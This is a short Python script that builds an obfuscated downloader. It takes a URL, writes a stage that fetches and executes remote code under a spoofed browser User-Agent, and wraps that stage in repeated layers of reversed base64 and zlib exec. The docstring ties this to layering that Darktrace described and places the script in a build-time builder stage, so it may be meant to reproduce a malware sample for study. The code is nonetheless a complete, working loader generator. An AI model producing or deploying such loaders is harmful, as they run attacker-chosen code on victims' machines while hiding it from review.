"""Wraps a small urllib fetch-and-exec stage in N layers of
exec(zlib.decompress(base64.b64decode(reversed))), the layering Darktrace
described in ten.py. Run at build time in a builder stage only."""
import base64
import sys
import zlib

url, depth = sys.argv[1], int(sys.argv[2])
code = (
    "import urllib.request as r\n"
    "exec(r.urlopen(r.Request(%r, headers={'User-Agent': 'Mozilla/5.0'}), timeout=30).read())\n" % url
)
head = "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));"
for _ in range(depth):
    blob = base64.b64encode(zlib.compress(code.encode()))[::-1]
    code = head + "exec((_)(%r))" % blob
print("# -*- coding: utf-8 -*-")
print(code)
